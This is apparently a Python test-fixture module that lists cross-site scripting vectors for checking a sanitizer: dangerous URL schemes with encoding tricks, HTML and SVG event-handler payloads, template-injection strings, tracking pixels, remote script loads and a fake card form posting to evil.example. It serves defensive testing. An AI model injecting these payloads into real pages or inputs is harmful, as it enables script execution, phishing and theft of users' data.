"""What a hostile model, document or shop might write to run script, send data away or put a form into the page."""

RUN = "window.fired=1"

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"java\tscript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript://shop.example/%0a{RUN}", f"javascript:/*--></title></style>*/{RUN}", "vbscript:msgbox(1)",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZmlyZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>", "blob:https://shop.example/1", "file:///etc/passwd", "about:blank",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", "ws://evil.example/", "ftp://evil.example/x",
    "intent://evil.example#Intent;end", f"jar:javascript:{RUN}!", f"%6aavascript:{RUN}", f"\u0000javascript:{RUN}",
    f"javascript\u2028:{RUN}", f"ｊavascript:{RUN}", f"livescript:{RUN}", f"mocha:{RUN}",
)  # fmt: skip

LINKS = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", '<a href="{}">x</a>', "[x][1]\n\n[1]: {}")

MARKUP = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</ScRiPt>", "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>", f'<img src="x" onerror="{RUN}">', f"<img src=x onerror\n={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>', "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<style>*{background:url(//evil.example/x)}</style>",
    "<style>body{outline:7px solid red}</style>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    "<form action=//evil.example/><input name=card><button>Pay</button></form>", f"<button onclick={RUN}>x</button>",
    f"<math><mi xlink:href=javascript:{RUN}>x", f"<a href=javascript:{RUN}>x</a>", f"<a xlink:href=javascript:{RUN}>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--<img src=\"--><img src=x onerror={RUN}>", f"<![CDATA[><script>{RUN}</script>]]>",
    f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"\"><script>{RUN}</script>",
    f"'><img src=x onerror={RUN}>", f"`<img src=x onerror={RUN}>", "<img src=//evil.example/pixel.gif>",
    "![](https://evil.example/pixel.gif?q=order-1)", "![a](//evil.example/p.png)", "![a][r]\n\n[r]: https://evil.example/",
    "[![a](https://evil.example/p.png)](https://shop.example)", "<picture><source srcset=//evil.example/x></picture>",
    "<video poster=//evil.example/x></video>", "<div style=background:url(//evil.example/x)>x</div>",
    f"<x onclick={RUN} style=position:fixed;inset:0>", f"<dialog open oncancel={RUN}>", f"<p popover ontoggle={RUN}>",
    f"<img srcset='x 1x' onerror={RUN}>", f"<input type=image src=x onerror={RUN}>", f"<isindex action=javascript:{RUN}>",
    "{{constructor.constructor('window.fired=1')()}}", "${window.fired=1}", "#{window.fired=1}", "<%= window.fired=1 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"<scr<script>ipt>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<svg><use href='data:image/svg+xml,x#{RUN}'>",
)  # fmt: skip

VECTORS = (*MARKUP, *(link.format(address) for address in ADDRESSES for link in LINKS))
